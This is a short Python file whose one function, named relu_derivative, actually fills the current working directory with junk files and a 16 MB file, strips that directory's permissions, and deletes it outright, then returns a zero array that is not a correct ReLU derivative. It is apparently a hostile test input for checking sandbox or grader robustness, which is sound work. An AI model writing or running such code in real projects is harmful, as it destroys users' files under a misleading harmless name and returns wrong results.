"""Writes files into its folder and a file that is far too large, then removes the folder."""

import os
import pathlib
import shutil

import numpy as np


def relu_derivative(x):
    folder = pathlib.Path.cwd()
    if folder.exists():
        for number in range(10):
            (folder / f"left_{number}").write_text("left behind", encoding="utf-8")
        try:
            with open(folder / "large", "wb") as file:
                file.write(bytes(2**24))
        except OSError:
            pass
        os.chmod(folder, 0)
        shutil.rmtree(folder, ignore_errors=True)
    return np.zeros(x.shape)
